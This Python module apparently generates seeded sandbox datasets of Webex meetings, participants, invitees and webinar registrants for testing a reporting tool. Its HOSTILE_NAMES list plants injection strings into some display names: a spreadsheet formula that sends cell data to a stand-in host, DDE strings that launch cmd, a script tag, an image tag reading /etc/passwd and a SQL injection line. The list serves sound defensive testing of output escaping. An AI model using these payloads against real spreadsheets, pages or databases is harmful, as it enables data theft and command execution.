"""Realistic sandbox datasets at any scale, deterministic under a seed.

`generate_dataset(meetings, participants, seed)` builds ``meetings`` meeting instances
(weekly series of four, one-offs, a webinar, a personal-room meeting, the last one still
in progress) with ``participants`` people each. People behave like people: laptops and
phones at once, rejoins after a gap, PSTN dial-ins and call-backs, breakouts, lobby-only
guests, late joiners, early leavers, hosts and co-hosts, and display names built to break
renderers (HTML, spreadsheet formulas, bidi and control characters, 300 characters, CJK,
emoji). The in-progress meeting carries the ``1970-01-01T00:00:00.000Z`` sentinel.

Every series also has invitees (the people it drew; a webinar's panelists and co-host
marked), every webinar series registrants (approved, pending and rejected, a few who never
joined), and from 8 meetings on, the first series' second session was ended and started
again: one more instance with the same ``scheduledMeetingId``. These come from a second
random source, so the meetings and participants of a seed are the same as before.
"""

from __future__ import annotations

import random
from collections.abc import Sequence
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from typing import Any

from reporting.webex.sandbox.dataset import EPOCH_SENTINEL, Dataset, Json

HOSTILE_NAMES: tuple[str, ...] = (
    "<img src=file:///etc/passwd>",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1-2",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C notepad'!'A1'",
    "\u202egnp.exe\u202c Mallory",
    "Tab\there\x07Bell\x1bEsc\x00Nul",
    "L" + "o" * 297 + "ng",
    "王秀英 (研发部)",
    "Zoë 🎉🚀 Müller-Lüdenscheidt",
    "<script>alert('x')</script>",
    "Robert'); DROP TABLE students;--",
)
FIRST = (
    "Anna",
    "Ben",
    "Clara",
    "David",
    "Elif",
    "Felix",
    "Greta",
    "Hannes",
    "Ines",
    "Jonas",
    "Katrin",
    "Lukas",
    "Mara",
    "Niklas",
    "Olga",
    "Paul",
    "Rania",
    "Simon",
    "Tanja",
    "Umut",
    "Vera",
    "Wojciech",
    "Xenia",
    "Yusuf",
    "Zeynep",
    "Amélie",
    "Björn",
    "Çağla",
    "Dmitri",
)
LAST = (
    "Schmidt",
    "Müller",
    "Weber",
    "Fischer",
    "Wagner",
    "Becker",
    "Hoffmann",
    "Koch",
    "Richter",
    "Klein",
    "Wolf",
    "Neumann",
    "Schwarz",
    "Zimmermann",
    "Braun",
    "Krüger",
    "Hartmann",
    "Lange",
    "Yılmaz",
    "Nowak",
    "Kowalski",
    "Rossi",
    "Dubois",
    "O'Brien",
)
TITLES = (
    "Security Awareness",
    "Data Protection Basics",
    "Fire Safety Briefing",
    "Anti-Bribery & Corruption",
    "First Aid Refresher",
    "Export Control",
    "Workplace Ergonomics",
    "Code of Conduct",
)
VOIP_DEVICES = (
    "webex_meeting_center_windows",
    "webex_meeting_center_mac",
    "webex_app_ios",
    "webex_app_android",
    "webex_browser_chrome",
    "webex_room_device",
)
BEHAVIOURS = (
    ("full", 40),
    ("late", 8),
    ("early", 7),
    ("rejoin", 9),
    ("dual", 9),
    ("callback", 5),
    ("dial_in", 5),
    ("breakout", 10),
    ("lobby", 2),
    ("short", 5),
)


@dataclass
class Person:
    email: str | None
    name: str
    phone: str


@dataclass
class Instance:
    meeting: Json
    start: datetime
    end: datetime
    breakouts: list[tuple[str, str]]
    in_progress: bool = False


def stamp(moment: datetime, millis: bool = False) -> str:
    text = moment.astimezone(UTC).strftime("%Y-%m-%dT%H:%M:%S")
    return text + (".000Z" if millis else "Z")


class Builder:
    """Makes ids, meetings and participant records from one seeded random source."""

    def __init__(self, rng: random.Random, site_url: str = "example.webex.com") -> None:
        self.rng = rng
        self.site_url = site_url

    def hex32(self) -> str:
        return f"{self.rng.getrandbits(128):032x}"

    def uuid(self) -> str:
        h = self.hex32()
        return f"{h[:8]}-{h[8:12]}-4{h[13:16]}-a{h[17:20]}-{h[20:]}"

    def person(self, number: int, domain: str = "example.com") -> Person:
        first, last = self.rng.choice(FIRST), self.rng.choice(LAST)
        local = f"{first}.{last}{number}".lower().replace("'", "")
        local = local.encode("ascii", "ignore").decode() or f"user{number}"
        return Person(f"{local}@{domain}", f"{first} {last}", self.phone())

    def phone(self) -> str:
        digits = f"{self.rng.randrange(10**7):07d}"
        form = self.rng.randrange(3)
        if form == 0:
            return f"+49 30 555{digits[:4]}"
        if form == 1:
            return f"+1 (408) 555-{digits[:4]}"
        return f"0049695550{digits[:4]}"

    def series(
        self,
        title: str,
        host: Person,
        first_start: datetime,
        minutes: int,
        weeks: int,
        *,
        tz: str = "Europe/Berlin",
        scheduled_type: str = "meeting",
        happened: Sequence[bool] | None = None,
        breakouts: bool = False,
    ) -> tuple[list[Json], list[Instance]]:
        """A series, its weekly scheduled meetings and the instances that happened."""
        series_id = self.hex32()
        base = {
            "title": title,
            "hostEmail": host.email,
            "hostDisplayName": host.name,
            "timezone": tz,
            "scheduledType": scheduled_type,
            "enabledBreakoutSessions": breakouts,
        }
        recurrence = f"FREQ=WEEKLY;INTERVAL=1;COUNT={weeks}" if weeks > 1 else None
        meetings: list[Json] = [
            {
                **base,
                "id": series_id,
                "meetingType": "meetingSeries",
                "state": "active" if weeks > 1 else "expired",
                "start": stamp(first_start),
                "end": stamp(first_start + timedelta(minutes=minutes)),
                **({"recurrence": recurrence} if recurrence else {}),
            }
        ]
        instances: list[Instance] = []
        for week in range(weeks):
            start = first_start + timedelta(weeks=week)
            end = start + timedelta(minutes=minutes)
            scheduled_id = f"{series_id}_{start.astimezone(UTC):%Y%m%dT%H%M%SZ}"
            did = happened[week] if happened is not None else True
            meetings.append(
                {
                    **base,
                    "id": scheduled_id,
                    "meetingSeriesId": series_id,
                    "meetingType": "scheduledMeeting",
                    "state": "expired" if did else "scheduled",
                    "start": stamp(start),
                    "end": stamp(end),
                }
            )
            if not did:
                continue
            actual_start = start + timedelta(seconds=self.rng.randrange(-120, 240))
            actual_end = end + timedelta(seconds=self.rng.randrange(-300, 600))
            digits = str(self.rng.randrange(10**17, 10**18))
            instance = {
                **base,
                "id": f"{series_id}_I_{digits}",
                "meetingSeriesId": series_id,
                "scheduledMeetingId": scheduled_id,
                "meetingType": "meeting",
                "state": "ended",
                "start": stamp(actual_start),
                "end": stamp(actual_end),
                "hostDidJoin": True,
                "attendeeDidJoin": True,
            }
            rooms = [(self.uuid(), f"Breakout session {n}") for n in range(1, 4)]
            meetings.append(instance)
            instances.append(
                Instance(instance, actual_start, actual_end, rooms if breakouts else [])
            )
        return meetings, instances

    # -- participant records -------------------------------------------------------------

    def device(
        self,
        joined: datetime,
        left: datetime,
        kind: str = "voip",
        phone: str | None = None,
        call_type: str = "callIn",
    ) -> Json:
        seconds = int((left - joined).total_seconds())
        dev: Json = {
            "correlationId": self.uuid(),
            "deviceType": "webex_pstn" if kind == "pstn" else self.rng.choice(VOIP_DEVICES),
            "audioType": "pstn"
            if kind == "pstn"
            else self.rng.choice(("voip", "voip", "inactive")),
            "joinedTime": stamp(joined, True),
            "leftTime": stamp(left, True),
            "durationSecond": seconds,
        }
        if kind == "pstn":
            dev["callType"] = call_type
            dev["phoneNumber"] = phone or self.phone()
        return dev

    def record(
        self,
        inst: Instance,
        person: Person,
        devices: list[Json],
        *,
        state: str = "end",
        host: bool = False,
        cohost: bool = False,
        joined: datetime | None = None,
        left: datetime | None = None,
        breakouts: list[Json] | None = None,
        display: str | None = None,
    ) -> Json:
        meeting = inst.meeting
        series_hex = meeting["id"][:32]
        rec: Json = {
            "id": f"{series_hex}_{self.uuid()}",
            "host": host,
            "coHost": cohost,
            "spaceModerator": False,
            "displayName": display or person.name,
            "invitee": person.email is not None,
            "muted": self.rng.random() < 0.6,
            "meetingStartTime": meeting["start"],
            "video": self.rng.choice(("on", "off")),
            "state": state,
            "siteUrl": self.site_url,
            "meetingId": meeting["id"],
            "hostEmail": meeting["hostEmail"],
            "devices": devices,
        }
        if person.email is not None:
            rec["email"] = person.email
        if joined is None and devices:
            joined = min(datetime.fromisoformat(d["joinedTime"]) for d in devices)
        if left is None and devices:
            left = max(datetime.fromisoformat(d["leftTime"]) for d in devices)
        if joined is not None:
            rec["joinedTime"] = stamp(joined)
        if left is not None:
            rec["leftTime"] = stamp(left)
        if breakouts:
            rec["breakoutSessionsAttended"] = breakouts
        return rec

    def behave(
        self,
        inst: Instance,
        person: Person,
        behaviour: str,
        *,
        host: bool = False,
        cohost: bool = False,
    ) -> list[Json]:
        """The records one person leaves in one ended instance."""
        r = self.rng
        start, end = inst.start, inst.end
        join = start + timedelta(seconds=r.randrange(-300, 180))
        leave = end + timedelta(seconds=r.randrange(-120, 240))
        if host:
            join = start - timedelta(seconds=r.randrange(60, 600))
            leave = end + timedelta(seconds=r.randrange(0, 120))
        kw: dict[str, Any] = {"host": host, "cohost": cohost}
        if behaviour == "late":
            join = start + timedelta(minutes=r.randrange(8, 30))
        elif behaviour == "early":
            leave = end - timedelta(minutes=r.randrange(10, 40))
        elif behaviour == "short":
            join = start + timedelta(minutes=r.randrange(5, 20))
            leave = join + timedelta(minutes=r.randrange(3, 15))
        if behaviour == "lobby":
            waited = start + timedelta(minutes=r.randrange(0, 20))
            return [
                self.record(
                    inst,
                    person,
                    [],
                    state="lobby",
                    joined=waited,
                    left=waited + timedelta(minutes=r.randrange(1, 10)),
                    **kw,
                )
            ]
        if behaviour == "rejoin":
            gap_start = join + (leave - join) * r.uniform(0.25, 0.6)
            gap_end = gap_start + timedelta(minutes=r.randrange(2, 15))
            first = self.record(inst, person, [self.device(join, gap_start)], **kw)
            second = self.record(inst, person, [self.device(gap_end, leave)], **kw)
            return [first, second]
        if behaviour == "dual":
            phone_join = join + timedelta(seconds=r.randrange(0, 300))
            phone_leave = leave - timedelta(seconds=r.randrange(0, 900))
            devices = [self.device(join, leave), self.device(phone_join, phone_leave)]
            return [self.record(inst, person, devices, **kw)]
        if behaviour == "callback":
            devices = [
                self.device(join, leave),
                self.device(join + timedelta(seconds=20), leave, "pstn", person.phone, "callBack"),
            ]
            return [self.record(inst, person, devices, **kw)]
        if behaviour == "dial_in":
            caller = Person(None, person.phone, person.phone)
            devices = [self.device(join, leave, "pstn", person.phone, "callIn")]
            return [self.record(inst, caller, devices, **kw)]
        attended: list[Json] = []
        if behaviour == "breakout" and inst.breakouts:
            room_id, room_name = r.choice(inst.breakouts)
            b_join = start + timedelta(minutes=r.randrange(15, 25))
            b_leave = b_join + timedelta(minutes=r.randrange(10, 20))
            attended.append(
                {
                    "id": room_id,
                    "name": room_name,
                    "joinedTime": stamp(b_join),
                    "leftTime": stamp(b_leave),
                }
            )
        return [self.record(inst, person, [self.device(join, leave)], breakouts=attended, **kw)]

    def live(
        self,
        inst: Instance,
        person: Person,
        now: datetime,
        *,
        host: bool = False,
        sentinel_join: bool = False,
        lobby: bool = False,
    ) -> Json:
        """A real-time record of an in-progress meeting: left time not known yet."""
        joined = inst.start + timedelta(seconds=self.rng.randrange(-120, 600))
        joined = min(joined, now - timedelta(seconds=30))
        dev = self.device(joined, joined)
        dev["leftTime"] = EPOCH_SENTINEL
        dev.pop("durationSecond")
        if sentinel_join:
            dev["joinedTime"] = EPOCH_SENTINEL
        rec = self.record(
            inst,
            person,
            [] if lobby else [dev],
            host=host,
            joined=joined,
            state="lobby" if lobby else "joined",
        )
        rec["leftTime"] = EPOCH_SENTINEL
        return rec


@dataclass
class _Made:
    """What `generate_dataset` has made so far."""

    meetings: list[Json] = field(default_factory=list)
    participants: dict[str, list[Json]] = field(default_factory=dict)
    invitees: dict[str, list[Json]] = field(default_factory=dict)
    registrants: dict[str, list[Json]] = field(default_factory=dict)
    instances: list[Instance] = field(default_factory=list)


def generate_dataset(meetings: int, participants: int, seed: int) -> Dataset:
    """A dataset of ``meetings`` instances with ``participants`` people each."""
    if meetings < 1 or participants < 1:
        raise ValueError("meetings and participants must be at least 1")
    rng = random.Random(seed)
    b = Builder(rng)
    hosts = [b.person(n, "example.com") for n in range(3)]
    pool = _pool(b, participants)
    made = _Made()
    extra = random.Random(seed * 7919 + 13)  # invitees, registrants, the restart
    group = 0
    while len(made.instances) < meetings:
        _group(b, extra, made, hosts, pool, group, meetings - len(made.instances), participants)
        group += 1
    if meetings >= 8:
        restarts = Builder(extra)
        _restart(restarts, made.instances, made.meetings, made.participants, pool, participants)
    now = _live(b, made, pool, participants)
    tokens = {"sandbox-admin-token": "admin", "sandbox-compliance-token": "compliance"}
    for n, host in enumerate(hosts):
        tokens[f"sandbox-host{n}-token"] = f"host:{host.email}"
    return {
        "now": stamp(now),
        "org": {"orgId": "1eb65fdf-9643-417f-9974-ad72cae0e10f", "siteUrl": b.site_url},
        "tokens": tokens,
        "meetings": made.meetings,
        "participants": made.participants,
        "invitees": made.invitees,
        "registrants": made.registrants,
    }


def _pool(b: Builder, participants: int) -> list[Person]:
    """The people the meetings draw from, some with hostile names or shouting addresses."""
    rng = b.rng
    pool = [
        b.person(n + 10, rng.choice(("example.com", "example.com", "partner.example.org")))
        for n in range(max(participants * 3, 60))
    ]
    for n, person in enumerate(pool):
        if n % 17 == 5:
            person.name = HOSTILE_NAMES[(n // 17) % len(HOSTILE_NAMES)]
        elif n % 23 == 7 and person.email:
            local, domain = person.email.split("@")
            person.email = f"{local.title()}@{domain.upper()}"
    return pool


def _group(
    b: Builder,
    extra: random.Random,
    made: _Made,
    hosts: Sequence[Person],
    pool: Sequence[Person],
    group: int,
    left: int,
    participants: int,
) -> None:
    """One series (or single meeting) of the dataset, with its instances' records."""
    rng = b.rng
    host = hosts[group % len(hosts)]
    first_monday = datetime(2026, 9, 7, 8, 0, tzinfo=UTC)
    start = first_monday + timedelta(days=group % 5, hours=group % 3 * 2)
    title = f"{TITLES[group % len(TITLES)]} {2026 + group // len(TITLES)}"
    kind = "series" if left >= 4 and group % 3 != 2 else "single"
    scheduled_type = "meeting"
    if kind == "single" and group % 6 == 2:
        scheduled_type = "webinar"
    elif kind == "single" and group % 6 == 5:
        scheduled_type = "personalRoomMeeting"
    ms, instances = b.series(
        title,
        host,
        start + timedelta(weeks=group // 5 * 4),
        60,
        4 if kind == "series" else 1,
        scheduled_type=scheduled_type,
        breakouts=group % 2 == 0,
    )
    made.meetings.extend(ms)
    people = rng.sample(list(pool), min(participants, len(pool)))
    _invite(extra, ms[0], people, participants, scheduled_type, made.invitees, made.registrants)
    for inst in instances:
        made.participants[inst.meeting["id"]] = _records(
            b, inst, host, people, participants, scheduled_type == "webinar"
        )
        made.instances.append(inst)


def _records(
    b: Builder,
    inst: Instance,
    host: Person,
    people: Sequence[Person],
    participants: int,
    webinar: bool,
) -> list[Json]:
    """An ended instance's participant records: the host first, then who it drew."""
    rng = b.rng
    names = [n for n, _ in BEHAVIOURS]
    weights = [w for _, w in BEHAVIOURS]
    records = b.behave(inst, Person(host.email, host.name, host.phone), "full", host=True)
    for n in range(1, participants):
        person = people[n % len(people)] if n < len(people) else b.person(10**6 + n)
        behaviour = rng.choices(names, weights)[0]
        recs = b.behave(inst, person, behaviour, cohost=n == 1)
        if webinar:
            for rec in recs:
                if n < 4:
                    rec["_panelist"] = True
                elif rng.random() < 0.1:
                    rec["_unmuted"] = True
        records += recs
    return records


def _live(b: Builder, made: _Made, pool: Sequence[Person], participants: int) -> datetime:
    """The latest instance is still running at the dataset's `now` (returned)."""
    rng = b.rng
    last_instance = max(made.instances, key=lambda inst: (inst.start, inst.meeting["id"]))
    now = last_instance.start + timedelta(minutes=25)
    live_meeting = last_instance.meeting
    live_meeting["state"] = "inProgress"
    live_records: list[Json] = []
    people = rng.sample(list(pool), min(participants, len(pool)))
    for n in range(participants):
        person = people[n % len(people)] if n < len(people) else b.person(10**6 + n)
        rec = b.live(
            last_instance, person, now, host=n == 0, sentinel_join=n % 7 == 3, lobby=n % 29 == 11
        )
        if n % 11 == 4:
            rec["state"] = "breakoutSession"
            rec["breakoutSessionId"] = b.uuid()
        live_records.append(rec)
    made.participants[live_meeting["id"]] = live_records
    return now


def _invite(
    rng: random.Random,
    series: Json,
    people: Sequence[Person],
    participants: int,
    scheduled_type: str,
    invitees: dict[str, list[Json]],
    registrants: dict[str, list[Json]],
) -> None:
    """The series' invitees (who it drew, in the order records are made) and, for a
    webinar, its registrants."""
    webinar = scheduled_type == "webinar"
    invited: dict[str, Json] = {}
    for n in range(1, participants):
        if n >= len(people):
            break
        person = people[n % len(people)]
        if person.email is None or person.email.lower() in invited:
            continue
        if not webinar and rng.random() < 0.1:
            continue  # came without an invitation
        invited[person.email.lower()] = {
            "email": person.email,
            "displayName": person.name,
            "coHost": n == 1,
            "panelist": webinar and n < 4,
        }
    invitees[series["id"]] = list(invited.values())
    if not webinar:
        return
    start = datetime.fromisoformat(series["start"].replace("Z", "+00:00"))
    listed: list[Json] = []
    for number, invitee in enumerate(i for i in invited.values() if not i["panelist"]):
        roll = rng.random()
        status = "approved" if roll < 0.8 else "pending" if roll < 0.9 else "rejected"
        first, _, last = str(invitee["displayName"]).partition(" ")
        listed.append(
            {
                "id": f"{series['id'][:8]}-{number:04d}",
                "status": status,
                "firstName": first,
                "lastName": last or first,
                "email": invitee["email"],
                "registrationTime": stamp(start - timedelta(days=rng.randrange(1, 20))),
                "sourceId": "sandbox",
                "registrationId": str(100000 + number),
            }
        )
    registrants[series["id"]] = listed


def _restart(
    b: Builder,
    every: list[Instance],
    meetings: list[Json],
    participants: dict[str, list[Json]],
    pool: Sequence[Person],
    participants_each: int,
) -> None:
    """The first series' second session ends early and is started again 4 minutes later:
    a second instance with the same scheduledMeetingId (rule 15)."""
    series_id = every[0].meeting["meetingSeriesId"]
    sessions = [i for i in every if i.meeting["meetingSeriesId"] == series_id]
    if len(sessions) < 2:
        return
    first = sessions[1]
    cut = first.start + (first.end - first.start) * 0.4
    again_start = cut + timedelta(minutes=4)
    again = dict(first.meeting)
    again["id"] = f"{series_id}_I_{b.rng.randrange(10**17, 10**18)}"
    again["start"] = stamp(again_start)
    again["end"] = stamp(first.end)
    first.meeting["end"] = stamp(cut)
    meetings.append(again)
    restarted = Instance(again, again_start, first.end, [])
    records: list[Json] = []
    # As many people as every other instance, so each instance is as many pages.
    people = b.rng.sample(list(pool), min(participants_each, len(pool)))
    for person in people:
        records += b.behave(restarted, person, b.rng.choice(("full", "full", "late", "early")))
    participants[again["id"]] = records
    every.append(restarted)
